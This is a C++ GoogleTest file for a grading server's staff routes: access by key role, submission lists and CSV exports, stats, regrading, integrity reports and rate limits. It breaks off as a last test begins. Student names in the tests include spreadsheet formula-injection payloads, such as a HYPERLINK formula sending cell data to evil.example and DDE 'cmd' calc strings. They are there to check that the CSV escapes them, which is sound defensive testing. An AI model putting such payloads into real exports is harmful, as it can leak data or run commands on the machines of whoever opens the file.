// The staff routes of the submission record (API.md §8) against the real binaries, with keys
// made by `headgrader keys`: who may use them, the list and its filters and cursor, one whole
// record, the CSV parsed back, stats against counts worked out from the answers by hand, a
// regrade after the problem file changed (PUT), the lms key's cap, and Idempotency-Keys
// scoped to the key. On SQLite and PostgreSQL.
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <thread>

#include "csv_reader.h"
#include "headgrader/report.h"
#include "hostile_client.h"
#include "server_harness.h"
#include "sqlite/sqlite_connection.h"
#include "store_test_support.h"
#include "test_support.h"

namespace headgrader::server {
namespace {

using testing::kGradePath;
using testing::kHandoutSolution;
using testing::kSwappedValues;
using testing::kWrongKey;
using testing::with_student;

using namespace harness;
using store::testing::Backend;
using store::testing::TestDatabase;
namespace fs = std::filesystem;

std::string shell(const std::string& command, int* status = nullptr) {
  FILE* pipe = ::popen((command + " 2>/dev/null").c_str(), "r");
  std::string out;
  char buffer[4096];
  for (std::size_t n; (n = std::fread(buffer, 1, sizeof buffer, pipe)) > 0;) out.append(buffer, n);
  const int raw = ::pclose(pipe);
  if (status != nullptr) *status = WIFEXITED(raw) ? WEXITSTATUS(raw) : -1;
  if (out.ends_with('\n')) out.pop_back();
  return out;
}

// GET `target` with no bound on the answer's size (an export of every record is larger than
// the client's parser takes by default) and a minute's patience.
HttpResponse get_whole(std::uint16_t port, const std::string& target, const std::string& key) {
  net::io_context ioc;
  tcp::socket socket(ioc);
  socket.connect(tcp::endpoint(net::ip::address_v4::loopback(), port));
  timeval timeout{60, 0};
  ::setsockopt(socket.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
  http::request<http::empty_body> request{http::verb::get, target, 11};
  request.set(http::field::host, "localhost");
  request.set(http::field::authorization, "Bearer " + key);
  http::write(socket, request);
  beast::flat_buffer buffer;
  http::response_parser<http::string_body> parser;
  parser.body_limit(boost::none);
  http::read(socket, buffer, parser);
  return parser.release();
}

class RecordRoutes : public ::testing::TestWithParam<Backend> {
 protected:
  void SetUp() override {
    db_ = TestDatabase::make(GetParam());
    if (!db_) {
      if (HasFailure()) return;
      GTEST_SKIP() << "HEADGRADER_TEST_POSTGRES is not set: run under scripts/with-postgres.sh";
    }
    root_ = fs::temp_directory_path() /
            ("headgrader-records-" + std::to_string(::getpid()) + "-" +
             std::to_string(::testing::UnitTest::GetInstance()->random_seed()) + "-" +
             std::to_string(counter_++));
    fs::remove_all(root_);
    fs::create_directories(root_ / "problems");
    for (const char* id : {"consonant-anywhere", "consonant-proportion"}) {
      fs::copy_file(fs::path(HEADGRADER_SOURCE_DIR "/problems") / (std::string(id) + ".json"),
                    root_ / "problems" / (std::string(id) + ".json"));
    }
    const std::string keys = (root_ / "keys.json").string();
    const std::string cli = HEADGRADER_CLI_BIN;
    staff_ = shell(cli + " keys add --keys " + keys + " --name ta --role staff");
    lms_ = shell(cli + " keys add --keys " + keys + " --name canvas --role lms");
    moodle_ = shell(cli + " keys add --keys " + keys + " --name moodle --role lms");
    ASSERT_EQ(staff_.size(), 43u);
  }
  void TearDown() override {
    server_.reset();
    std::error_code ignored;
    if (!root_.empty()) fs::remove_all(root_, ignored);
  }
  std::uint16_t start(std::vector<std::string> more = {}) {
    std::vector<std::string> args = {"--port",     "0",
                                     "--address",  "127.0.0.1",
                                     "--problems", (root_ / "problems").string(),
                                     "--keys",     (root_ / "keys.json").string(),
                                     "--store",    db_->url()};
    args.insert(args.end(), more.begin(), more.end());
    server_ = std::make_unique<ServerProcess>(args);
    return server_->wait_listening();
  }
  HttpResponse grade(std::uint16_t port, const std::string& body,
                     const std::vector<std::string>& headers = {}) {
    return call(port, "POST", kGradePath, lms_, body, headers);
  }

  // The CSV of every record as its pages of 1 000 (limit, X-Next-Cursor) give it: the header
  // once, then each page's rows.
  std::string paged_export(std::uint16_t port) {
    std::string paged =
        "id,time,problem,student,key,passed,score,tests_total,tests_failed,mistakes\r\n";
    std::string cursor;
    for (;;) {
      const HttpResponse page = get_whole(
          port, "/v1/submissions.csv?limit=1000" + (cursor.empty() ? "" : "&cursor=" + cursor),
          staff_);
      EXPECT_EQ(page.result(), http::status::ok);
      if (page.result() != http::status::ok) return paged;
      paged += page.body().substr(page.body().find("\r\n") + 2);
      cursor = std::string(page["X-Next-Cursor"]);
      if (cursor.empty()) return paged;
    }
  }

  // `copies` copies of the record's one row, each with an id of its own, written with SQL.
  void copy_the_record(int copies) {
    auto raw = store::SqliteConnection::open(db_->folder() / "store.db");
    ASSERT_TRUE(raw) << raw.error().message;
    auto columns = (*raw)->query("SELECT name FROM pragma_table_info('submissions')", {});
    ASSERT_TRUE(columns) << columns.error().message;
    std::string names, values;
    for (const auto& row : *columns) {
      const std::string name = *row[0];
      names += (names.empty() ? "" : ",") + name;
      values += values.empty() ? "" : ",";
      values += name == "id"        ? "substr(id, 1, 12) || printf('%016x', n)"
                : name == "student" ? "'s' || (n % 5000)"
                                    : name;
    }
    ASSERT_TRUE((*raw)->exec_script(
        "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < " +
        std::to_string(copies) + ") INSERT INTO submissions (" + names + ") SELECT " + values +
        " FROM submissions, c"));
  }

  static inline int counter_ = 0;
  std::unique_ptr<TestDatabase> db_;
  fs::path root_;
  std::string staff_, lms_, moodle_;
  std::unique_ptr<ServerProcess> server_;
};

TEST_P(RecordRoutes, OnlyAStaffKeyMayReadTheRecord) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  for (const std::string path :
       {"/v1/submissions", "/v1/submissions.csv", "/v1/submissions/0123",
        "/v1/problems/consonant-anywhere/stats", "/v1/problems/consonant-anywhere/integrity"}) {
    const HttpResponse nobody = call(port, "GET", path);
    EXPECT_EQ(nobody.result(), http::status::unauthorized) << path;
    EXPECT_EQ(nobody[http::field::www_authenticate], "Bearer");
    const HttpResponse lms = call(port, "GET", path, lms_);
    EXPECT_EQ(lms.result(), http::status::forbidden) << path;
    EXPECT_EQ(code_of(lms), "forbidden");
  }
  EXPECT_EQ(call(port, "POST", "/v1/problems/consonant-anywhere/regrade", lms_, "{}").result(),
            http::status::forbidden);
  EXPECT_EQ(call(port, "GET", "/v1/submissions", staff_).result(), http::status::ok);
  EXPECT_EQ(call(port, "GET", "/v1/submissions/0123", staff_).result(), http::status::not_found);
  EXPECT_EQ(call(port, "GET", "/v1/problems/nope/stats", staff_).result(), http::status::not_found);
  const HttpResponse wrong_method =
      call(port, "GET", "/v1/problems/consonant-anywhere/regrade", staff_);
  EXPECT_EQ(wrong_method.result(), http::status::method_not_allowed);
  EXPECT_EQ(wrong_method[http::field::allow], "POST");
}

TEST_P(RecordRoutes, WithoutKeysTheStaffRoutesAreDisabled) {
  server_ = std::make_unique<ServerProcess>(
      std::vector<std::string>{"--port", "0", "--address", "127.0.0.1", "--problems",
                               (root_ / "problems").string(), "--store", db_->url()});
  const std::uint16_t port = server_->wait_listening();
  ASSERT_NE(port, 0);
  const HttpResponse answer = call(port, "GET", "/v1/submissions");
  EXPECT_EQ(answer.result(), http::status::forbidden);
  EXPECT_EQ(code_of(answer), "staff_disabled");
}

TEST_P(RecordRoutes, ListGetAndCsvShowWhatWasGraded) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  const HttpResponse ada = grade(port, with_student(kHandoutSolution, "ada"));
  const HttpResponse bob = grade(port, with_student(kWrongKey, "bob, \\\"the\\\" builder"));
  const HttpResponse anon = call(port, "POST", kGradePath, staff_, kSwappedValues);
  ASSERT_EQ(ada.result(), http::status::ok);
  ASSERT_EQ(bob.result(), http::status::ok);
  ASSERT_EQ(anon.result(), http::status::ok);
  const Json a = Json::parse(ada.body()), b = Json::parse(bob.body()), c = Json::parse(anon.body());

  const Json all = Json::parse(call(port, "GET", "/v1/submissions", staff_).body());
  ASSERT_EQ(all["submissions"].size(), 3u);
  EXPECT_EQ(all["submissions"][0]["id"], c["submission_id"]);  // newest first
  EXPECT_EQ(all["submissions"][0]["key"], "ta");
  EXPECT_TRUE(all["submissions"][0]["student"].is_null());
  EXPECT_EQ(all["submissions"][2]["id"], a["submission_id"]);
  EXPECT_EQ(all["submissions"][2]["key"], "canvas");
  EXPECT_EQ(all["submissions"][1]["score"], b["score"]);
  EXPECT_EQ(all["submissions"][1]["tests"], b["tests"]);
  EXPECT_TRUE(all["next_cursor"].is_null());
  // The problem file's SHA-256, by sha256sum.
  const std::string file = (root_ / "problems" / "consonant-anywhere.json").string();
  const std::string sum = shell("sha256sum " + file);
  EXPECT_EQ(all["submissions"][0]["problem_sha256"], sum.substr(0, 64));

  const Json page1 = Json::parse(call(port, "GET", "/v1/submissions?limit=2", staff_).body());
  ASSERT_EQ(page1["submissions"].size(), 2u);
  const Json page2 = Json::parse(
      call(port, "GET", "/v1/submissions?limit=2&cursor=" + page1["next_cursor"].get<std::string>(),
           staff_)
          .body());
  ASSERT_EQ(page2["submissions"].size(), 1u);
  EXPECT_EQ(page2["submissions"][0]["id"], a["submission_id"]);
  const Json failed = Json::parse(
      call(port, "GET", "/v1/submissions?passed=false&problem=consonant-anywhere", staff_).body());
  EXPECT_EQ(failed["submissions"].size(), 2u);
  const Json by_student = Json::parse(
      call(port, "GET", "/v1/submissions?student=bob%2C+%22the%22+builder", staff_).body());
  ASSERT_EQ(by_student["submissions"].size(), 1u);
  EXPECT_EQ(call(port, "GET", "/v1/submissions?limit=5000", staff_).result(),
            http::status::bad_request);

  const HttpResponse one =
      call(port, "GET", "/v1/submissions/" + b["submission_id"].get<std::string>(), staff_);
  ASSERT_EQ(one.result(), http::status::ok);
  const Json record = Json::parse(one.body());
  EXPECT_EQ(record["matrices"], Json::parse(kWrongKey));
  EXPECT_EQ(record["answer"], b);
  EXPECT_EQ(record["failing_inputs"].size(), b["failures"].size());

  const HttpResponse csv = call(port, "GET", "/v1/submissions.csv", staff_);
  ASSERT_EQ(csv.result(), http::status::ok);
  EXPECT_EQ(csv[http::field::content_type], "text/csv; charset=utf-8");
  const auto rows = testing_csv::parse_csv(csv.body());
  ASSERT_EQ(rows.size(), 4u);
  EXPECT_EQ(rows[0][0], "id");
  EXPECT_EQ(rows[2][3], "bob, \"the\" builder");
  EXPECT_EQ(rows[2][5], "false");
  EXPECT_EQ(std::stod(rows[2][6]), b["score"].get<double>());
  EXPECT_EQ(rows[2][7], std::to_string(b["tests"]["total"].get<int>()));
  EXPECT_EQ(rows[2][8], std::to_string(b["tests"]["failed"].get<int>()));

  // The student named in a query never reaches the access log; no matrix either.
  const std::string log = server_->stderr_text_when(
      [](const std::string& text) { return text.find("submissions.csv") != std::string::npos; });
  EXPECT_EQ(log.find("builder"), std::string::npos);
  EXPECT_EQ(log.find("W_q"), std::string::npos);
}

TEST_P(RecordRoutes, StatsAndRegradeAfterTheProblemChanged) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  // ada: wrong, then right. bob: right. cy: values swapped (score 0: every string fails).
  grade(port, with_student(kWrongKey, "ada"));
  grade(port, with_student(kHandoutSolution, "bob"));
  grade(port, with_student(kHandoutSolution, "ada"));
  const Json cy = Json::parse(grade(port, with_student(kSwappedValues, "cy")).body());
  grade(port, kSwappedValues);  // no student
  const Json stats =
      Json::parse(call(port, "GET", "/v1/problems/consonant-anywhere/stats", staff_).body());
  EXPECT_EQ(stats["submissions"], 5);
  EXPECT_EQ(stats["students"], 3);
  EXPECT_EQ(stats["students_passed"], 2);
  EXPECT_EQ(stats["first_try_pass_rate"], 1.0 / 3.0);
  std::vector<int> bins(10, 0);
  bins[9] = 2;  // ada and bob: 1.0, the closed last bin
  bins[static_cast<std::size_t>(cy["tests"]["passed"].get<int>() * 10 /
                                cy["tests"]["total"].get<int>())] += 1;
  EXPECT_EQ(stats["score_histogram"], Json(bins));
  ASSERT_EQ(stats["common_failures"].size(), cy["failures"].size());
  EXPECT_EQ(stats["common_failures"][0]["students"], 1);
  EXPECT_EQ(stats["common_failures"][0]["input"], cy["failures"][0]["input"]);

  // A stricter tolerance, PUT while serving: the handout's solution (1/(1 + e^-5) ≈ 0.993
  // where 1 is expected) no longer passes at 0.001; a key of 20 (1 - 2e-9 per consonant) does.
  std::ifstream in(root_ / "problems" / "consonant-anywhere.json");
  Json problem = Json::parse(in);
  problem["tolerance"] = 0.001;
  problem["reference"]["W_k"] = Json::parse("[[0, 20]]");
  const HttpResponse put =
      call(port, "PUT", "/v1/problems/consonant-anywhere", staff_, problem.dump());
  ASSERT_EQ(put.result(), http::status::ok) << put.body();
  // A dry run first: who would change, with nothing written (the list and stats as before).
  const std::size_t kept =
      Json::parse(call(port, "GET", "/v1/submissions", staff_).body())["submissions"].size();
  const HttpResponse dry =
      call(port, "POST", "/v1/problems/consonant-anywhere/regrade?dry_run=true", staff_, "{}");
  ASSERT_EQ(dry.result(), http::status::ok) << dry.body();
  const Json would = Json::parse(dry.body());
  EXPECT_EQ(would["dry_run"], true);
  EXPECT_EQ(would["regraded"], 3);
  ASSERT_EQ(would["changed"].size(), 2u);
  EXPECT_EQ(would["changed"][0]["student"], "ada");
  EXPECT_TRUE(would["changed"][0]["submission_id"].is_null());
  EXPECT_TRUE(would["changed"][0]["regrade_of"].is_string());
  EXPECT_EQ(would["changed"][1]["before"], (Json{{"passed", true}, {"score", 1}}));
  EXPECT_EQ(would["changed"][1]["after"]["passed"], false);
  EXPECT_EQ(Json::parse(call(port, "GET", "/v1/submissions", staff_).body())["submissions"].size(),
            kept);
  EXPECT_EQ(Json::parse(call(port, "GET", "/v1/problems/consonant-anywhere/stats", staff_)
                            .body())["students_passed"],
            2);
  for (const std::string query :
       {"?dry_run=yes", "?dry_run=", "?dryrun=true", "?dry_run=true&dry_run=false"}) {
    const HttpResponse refused =
        call(port, "POST", "/v1/problems/consonant-anywhere/regrade" + query, staff_, "{}");
    EXPECT_EQ(refused.result(), http::status::bad_request) << query;
    EXPECT_EQ(code_of(refused), "bad_request") << query;
  }
  EXPECT_EQ(Json::parse(call(port, "GET", "/v1/submissions", staff_).body())["submissions"].size(),
            kept);
  const HttpResponse regraded =
      call(port, "POST", "/v1/problems/consonant-anywhere/regrade", staff_, "{}");
  ASSERT_EQ(regraded.result(), http::status::ok) << regraded.body();
  const Json result = Json::parse(regraded.body());
  EXPECT_EQ(result["regraded"], 3);
  std::vector<std::string> changed;
  for (const Json& entry : result["changed"]) changed.push_back(entry["student"]);
  EXPECT_EQ(changed, (std::vector<std::string>{"ada", "bob"}));  // cy fails either way
  const Json& bob = result["changed"][1];
  EXPECT_EQ(bob["before"], (Json{{"passed", true}, {"score", 1}}));
  EXPECT_EQ(bob["after"]["passed"], false);
  const Json record = Json::parse(
      call(port, "GET", "/v1/submissions/" + bob["submission_id"].get<std::string>(), staff_)
          .body());
  EXPECT_TRUE(record["regrade_of"].is_string());
  EXPECT_EQ(record["key"], "ta");
  const std::string sum =
      shell("sha256sum " + (root_ / "problems" / "consonant-anywhere.json").string());
  EXPECT_EQ(record["problem_sha256"], sum.substr(0, 64));  // the file as it is now
  const Json after =
      Json::parse(call(port, "GET", "/v1/problems/consonant-anywhere/stats", staff_).body());
  EXPECT_EQ(after["submissions"], 5);  // regradings are not submissions
  EXPECT_EQ(after["students_passed"], 0);
}

TEST_P(RecordRoutes, IntegrityGroupsCopiedHeadsAndNeverShowsTheWeights) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  // ada and bob: the handout's head as printed. cy: the same head with W_q tripled and W_k a
  // third (every score the same: (3 W_q r)·(W_k r' / 3)). dee: the weak key alone. ada again:
  // the same head twice is still one student. eve: no student, not compared.
  const std::string cy_head = R"({"W_q": [[3, 3]], "W_k": [[0, 1.6666666666666667]],
                                  "W_V": [[1, 0], [0, 1]]})";
  const Json ada = Json::parse(grade(port, with_student(kHandoutSolution, "ada")).body());
  const Json bob = Json::parse(grade(port, with_student(kHandoutSolution, "bob")).body());
  const Json cy = Json::parse(grade(port, with_student(cy_head, "cy")).body());
  grade(port, with_student(kWrongKey, "dee"));
  const Json ada2 = Json::parse(grade(port, with_student(kHandoutSolution, "ada")).body());
  grade(port, kHandoutSolution);
  ASSERT_EQ(cy["passed"], true);  // the same head passes where the handout's does

  const std::string path = "/v1/problems/consonant-anywhere/integrity";
  EXPECT_EQ(call(port, "GET", path).result(), http::status::unauthorized);
  EXPECT_EQ(call(port, "GET", path, lms_).result(), http::status::forbidden);
  EXPECT_EQ(call(port, "GET", "/v1/problems/nope/integrity", staff_).result(),
            http::status::not_found);
  const HttpResponse answer = call(port, "GET", path, staff_);
  ASSERT_EQ(answer.result(), http::status::ok) << answer.body();
  const Json report = Json::parse(answer.body());
  EXPECT_EQ(report["problem"], "consonant-anywhere");
  EXPECT_EQ(report["compared"], 5);
  EXPECT_EQ(report["skipped"], 1);  // eve's, without a student
  ASSERT_EQ(report["shared"].size(), 2u) << report.dump();
  const Json& identical = report["shared"][0];
  EXPECT_EQ(identical["kind"], "identical");
  EXPECT_EQ(identical["students"], Json::parse(R"(["ada", "bob"])"));
  std::vector<std::string> ids = {ada["submission_id"], bob["submission_id"],
                                  ada2["submission_id"]};
  std::sort(ids.begin(), ids.end());
  EXPECT_EQ(identical["submission_ids"], Json(ids));
  EXPECT_EQ(identical["matches_reference"], true);
  const Json& same = report["shared"][1];
  EXPECT_EQ(same["kind"], "same_after_relabeling");
  EXPECT_EQ(same["students"], Json::parse(R"(["ada", "bob", "cy"])"));
  EXPECT_EQ(same["matches_reference"], true);
  EXPECT_EQ(report["other_variant"], Json::array());  // one variant: the problem as written
  // No number of any head, the reference's included, is in the answer.
  for (const char* weight : {"W_q", "W_k", "W_V", "1.666", "[[", "0, 5", "0,5"}) {
    EXPECT_EQ(answer.body().find(weight), std::string::npos) << weight;
  }
  EXPECT_EQ(call(port, "HEAD", path, staff_).result(), http::status::ok);
}

// The handout's head with W_k = [0 1] is the key too soft (its diagnosis says so; softmax of
// scores 0 and 1 gives 0.73 where 1 is expected), with W_V's rows swapped it is
// value_rows_swapped: named in the record, counted in stats by each student's latest grading,
// written in the CSV's last column.
TEST_P(RecordRoutes, TheRecordStatsAndCsvNameEachGradingsMistakes) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  grade(port, with_student(kWrongKey, "ada"));  // then swapped: her latest names that
  const Json ada = Json::parse(grade(port, with_student(kSwappedValues, "ada")).body());
  const Json bob = Json::parse(grade(port, with_student(kWrongKey, "bob")).body());
  grade(port, with_student(kWrongKey, "cy"));
  grade(port, with_student(kHandoutSolution, "dee"));
  grade(port, with_student(kSwappedValues, "eve"));
  grade(port, with_student(kWrongKey, "fay"));
  ASSERT_EQ(bob["diagnosis"][0]["mistake"], "key_too_soft");
  ASSERT_EQ(ada["diagnosis"][0]["mistake"], "value_rows_swapped");

  const Json record = Json::parse(
      call(port, "GET", "/v1/submissions/" + bob["submission_id"].get<std::string>(), staff_)
          .body());
  EXPECT_EQ(record["mistakes"], Json::parse(R"(["key_too_soft"])"));
  const Json stats =
      Json::parse(call(port, "GET", "/v1/problems/consonant-anywhere/stats", staff_).body());
  EXPECT_EQ(stats["mistakes"], Json::parse(R"([{"mistake": "key_too_soft", "students": 3},
                                                {"mistake": "value_rows_swapped", "students": 2}])"));
  const auto rows = testing_csv::parse_csv(call(port, "GET", "/v1/submissions.csv", staff_).body());
  ASSERT_EQ(rows.size(), 8u);
  EXPECT_EQ(rows[0].back(), "mistakes");
  EXPECT_EQ(rows[0].size(), 10u);
  EXPECT_EQ(rows[1][3], "fay");  // newest first
  EXPECT_EQ(rows[1].back(), "key_too_soft");
  EXPECT_EQ(rows[3].back(), "");  // dee passed: none
}

// One row per student and problem, worked out here from the answers and the records' times:
// ada failed, passed, then failed again (3 attempts, best 1, latest failing, first passed at
// her second grading's time); a student named as a formula comes back with its apostrophe.
TEST_P(RecordRoutes, TheStudentsCsvSumsUpEachStudentsGradingsOfEachProblem) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  const auto time_of = [&](const Json& answer) {
    return Json::parse(call(port, "GET",
                            "/v1/submissions/" + answer["submission_id"].get<std::string>(), staff_)
                           .body())["time"]
        .get<std::string>();
  };
  grade(port, with_student(kWrongKey, "ada"));
  const Json passing = Json::parse(grade(port, with_student(kHandoutSolution, "ada")).body());
  const Json last = Json::parse(grade(port, with_student(kWrongKey, "ada")).body());
  const Json formula =
      Json::parse(grade(port, with_student(kSwappedValues, "=cmd|' /C calc'!A0")).body());
  const std::string proportion =
      R"({"W_q": [[0, 0]], "W_k": [[0, 0]], "W_V": [[1, 0], [0, 1]], "student": "ada"})";
  const HttpResponse other =
      call(port, "POST", "/v1/problems/consonant-proportion/grade", lms_, proportion);
  ASSERT_EQ(other.result(), http::status::ok) << other.body();
  grade(port, kHandoutSolution);  // no student: in no row

  const HttpResponse csv = call(port, "GET", "/v1/students.csv", staff_);
  ASSERT_EQ(csv.result(), http::status::ok) << csv.body();
  EXPECT_EQ(csv[http::field::content_type], "text/csv; charset=utf-8");
  EXPECT_EQ(csv[http::field::content_disposition], "attachment; filename=\"students.csv\"");
  const auto rows = testing_csv::parse_csv(csv.body());
  ASSERT_EQ(rows.size(), 4u) << csv.body();
  EXPECT_EQ(rows[0], (std::vector<std::string>{"student", "problem", "attempts", "best_score",
                                               "latest_score", "passed", "first_passed_at",
                                               "latest_at", "latest_mistakes"}));
  // Byte order: '=' (0x3D) before 'a'.
  EXPECT_EQ(rows[1][0], "'=cmd|' /C calc'!A0");
  EXPECT_EQ(rows[1][2], "1");
  EXPECT_EQ(rows[1][5], "false");
  EXPECT_EQ(rows[1][6], "");
  EXPECT_EQ(rows[1][7], time_of(formula));
  EXPECT_EQ(rows[1][8], "value_rows_swapped");
  const std::vector<std::string>& ada = rows[2];
  EXPECT_EQ(ada[0], "ada");
  EXPECT_EQ(ada[1], "consonant-anywhere");
  EXPECT_EQ(ada[2], "3");
  EXPECT_EQ(std::stod(ada[3]), 1.0);
  EXPECT_EQ(std::stod(ada[4]), last["score"].get<double>());
  EXPECT_EQ(ada[5], "false");
  EXPECT_EQ(ada[6], time_of(passing));
  EXPECT_EQ(ada[7], time_of(last));
  EXPECT_EQ(ada[8], "key_too_soft");
  EXPECT_EQ(rows[3][0], "ada");
  EXPECT_EQ(rows[3][1], "consonant-proportion");
  EXPECT_EQ(rows[3][2], "1");

  // A regrade is no attempt, and is the latest: the file as it is, ada still failing.
  ASSERT_EQ(call(port, "POST", "/v1/problems/consonant-anywhere/regrade", staff_, "{}").result(),
            http::status::ok);
  const HttpResponse one = call(port, "GET", "/v1/students.csv?problem=consonant-anywhere", staff_);
  ASSERT_EQ(one.result(), http::status::ok);
  EXPECT_EQ(one[http::field::content_disposition],
            "attachment; filename=\"students-consonant-anywhere.csv\"");
  const auto only = testing_csv::parse_csv(one.body());
  ASSERT_EQ(only.size(), 3u);
  EXPECT_EQ(only[2][0], "ada");
  EXPECT_EQ(only[2][2], "3");
  EXPECT_NE(only[2][7], time_of(last));  // the regrade's time

  EXPECT_EQ(call(port, "GET", "/v1/students.csv?student=ada", staff_).result(),
            http::status::bad_request);
  EXPECT_EQ(call(port, "GET", "/v1/students.csv", lms_).result(), http::status::forbidden);
  EXPECT_EQ(call(port, "GET", "/v1/students.csv").result(), http::status::unauthorized);
  EXPECT_EQ(call(port, "GET", "/v1/submissions.csv", staff_)[http::field::content_disposition],
            "attachment; filename=\"submissions.csv\"");
}

TEST_P(RecordRoutes, IdempotencyKeysAreScopedToTheKeyAndLmsKeysAreCapped) {
  const std::uint16_t port = start({"--rate-limit", "1/1h"});
  ASSERT_NE(port, 0);
  const std::string body = with_student(kWrongKey, "ada");
  const HttpResponse canvas = grade(port, body, {"Idempotency-Key: same"});
  const HttpResponse moodle =
      call(port, "POST", kGradePath, moodle_, body, {"Idempotency-Key: same"});
  ASSERT_EQ(canvas.result(), http::status::ok);
  // The same student and problem: the per-student limit (1/1h) counts across keys.
  EXPECT_EQ(moodle.result(), http::status::too_many_requests);
  const HttpResponse replay = grade(port, body, {"Idempotency-Key: same"});
  EXPECT_EQ(replay.body(), canvas.body());  // a replay is no new grading: not limited
  const HttpResponse other = call(port, "POST", kGradePath, moodle_, with_student(kWrongKey, "bob"),
                                  {"Idempotency-Key: same"});
  EXPECT_EQ(other.result(), http::status::ok);  // moodle's "same" is not canvas's

  // Without students, canvas may send 100 × 1 gradings an hour in all (one is used above).
  int ok = 1;
  HttpResponse last;
  for (int i = 0; i < 100; ++i) {
    last = grade(port, kWrongKey);
    if (last.result() == http::status::ok) ++ok;
  }
  EXPECT_EQ(ok, 100);
  EXPECT_EQ(last.result(), http::status::too_many_requests);
  EXPECT_EQ(code_of(last), "rate_limited");
  EXPECT_NE(last.body().find("100 gradings"), std::string::npos) << last.body();
  EXPECT_FALSE(last[http::field::retry_after].empty());
  // Held at its cap (server/access/keys_at_cap.h): refused again, at once, with its window's
  // time.
  const HttpResponse again = grade(port, kWrongKey);
  EXPECT_EQ(again.result(), http::status::too_many_requests);
  EXPECT_NE(again.body().find("100 gradings"), std::string::npos) << again.body();
  ASSERT_FALSE(again[http::field::retry_after].empty());
  EXPECT_LE(std::stoi(std::string(again[http::field::retry_after])),
            std::stoi(std::string(last[http::field::retry_after])));
}

TEST_P(RecordRoutes, CsvWritesFormulaStudentsWithALeadingApostrophe) {
  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  const std::vector<std::string> names = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                                          "+cmd|' /C calc'!A0",
                                          "-2+3",
                                          "@SUM(1+1)",
                                          "\t=1+1",
                                          "\r=1+1",
                                          "ada"};
  for (const std::string& name : names) {
    Json body = Json::parse(kWrongKey);
    body["student"] = name;
    ASSERT_EQ(grade(port, body.dump()).result(), http::status::ok) << name;
  }
  const HttpResponse csv = call(port, "GET", "/v1/submissions.csv", staff_);
  ASSERT_EQ(csv.result(), http::status::ok);
  const auto rows = testing_csv::parse_csv(csv.body());
  ASSERT_EQ(rows.size(), names.size() + 1);
  std::vector<std::string> students;
  for (std::size_t i = 1; i < rows.size(); ++i) students.push_back(rows[i][3]);
  for (const std::string& name : names) {
    const std::string written = name == "ada" ? name : "'" + name;
    EXPECT_NE(std::find(students.begin(), students.end(), written), students.end())
        << "the student " << Json(name).dump() << " is not written as " << Json(written).dump()
        << " in:\n"
        << csv.body();
  }
  // No cell of any row starts a formula.
  for (const auto& row : rows) {
    for (const std::string& cell : row) {
      EXPECT_TRUE(cell.empty() ||
                  std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos)
          << Json(cell).dump();
    }
  }
}

// A large record, exported twice at once: the exports run off the io threads, so /healthz
// stays fast (a generous bound: on the io threads it waited for the exports, seconds), and
// the CSV written page by page holds every record, the same bytes in each export.
TEST_P(RecordRoutes, TwoExportsOfALargeRecordLeaveHealthzFast) {
  if (GetParam() != Backend::kSqlite) GTEST_SKIP() << "the record is filled with SQLite's SQL";
  const std::uint16_t port = start({"--threads", "2"});
  ASSERT_NE(port, 0);
  ASSERT_EQ(grade(port, with_student(kWrongKey, "template")).result(), http::status::ok);
  // 200 000 copies of that record, each with an id of its own, written directly.
  constexpr int kRecords = 200000;
  ASSERT_NO_FATAL_FAILURE(copy_the_record(kRecords));
  std::string exports[2];
  std::thread exporters[2];
  std::atomic<int> done{0};
  for (int i = 0; i < 2; ++i) {
    exporters[i] = std::thread([&, i] {
      try {
        const HttpResponse answer = get_whole(port, "/v1/submissions.csv", staff_);
        if (answer.result() == http::status::ok) exports[i] = answer.body();
      } catch (const std::exception&) {
        // no answer: exports[i] stays empty and the test says so below
      }
      ++done;
    });
  }
  auto slowest = std::chrono::steady_clock::duration::zero();
  int asked = 0;
  while (done.load() < 2) {
    const auto before = std::chrono::steady_clock::now();
    const HttpResponse health = call(port, "GET", "/healthz");
    slowest = std::max(slowest, std::chrono::steady_clock::now() - before);
    EXPECT_EQ(health.result(), http::status::ok);
    ++asked;
    std::this_thread::sleep_for(20ms);
  }
  for (auto& exporter : exporters) exporter.join();
  EXPECT_GT(asked, 0);
  EXPECT_LT(slowest, 1500ms)
      << "/healthz waited "
      << std::chrono::duration_cast<std::chrono::milliseconds>(slowest).count()
      << " ms behind two exports";
  ASSERT_FALSE(exports[0].empty());
  EXPECT_EQ(exports[0], exports[1]);
  const auto rows = testing_csv::parse_csv(exports[0]);
  ASSERT_EQ(rows.size(), static_cast<std::size_t>(kRecords) + 2);  // the header and the template
  EXPECT_EQ(rows[0][0], "id");
  // The same rows as the pages of the paged CSV, one after the other.
  const std::string paged = paged_export(port);
  EXPECT_TRUE(paged == exports[0]) << "the export differs from its pages";
}

// What a raw HTTP client gets for `request` until the server closes the connection, or until
// `enough` bytes when that comes first.
std::string read_raw(std::uint16_t port, const std::string& request,
                     std::size_t enough = std::string::npos) {
  net::io_context ioc;
  tcp::socket socket(ioc);
  socket.connect(tcp::endpoint(net::ip::address_v4::loopback(), port));
  timeval timeout{60, 0};
  ::setsockopt(socket.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
  net::write(socket, net::buffer(request));
  std::string got;
  char buffer[65536];
  beast::error_code ec;
  while (got.size() < enough) {
    const std::size_t n = socket.read_some(net::buffer(buffer), ec);
    if (ec) break;
    got.append(buffer, n);
  }
  return got;
}

std::string export_request(const std::string& version, const std::string& key,
                           const std::string& method = "GET") {
  return method + " /v1/submissions.csv HTTP/" + version + "\r\nHost: x\r\nAuthorization: Bearer " +
         key + "\r\nConnection: close\r\n\r\n";
}

TEST_P(RecordRoutes, AnExportIsStreamedChunkedAndTheSameOverHttp10AndHead) {
  if (GetParam() != Backend::kSqlite) GTEST_SKIP() << "the record is filled with SQLite's SQL";
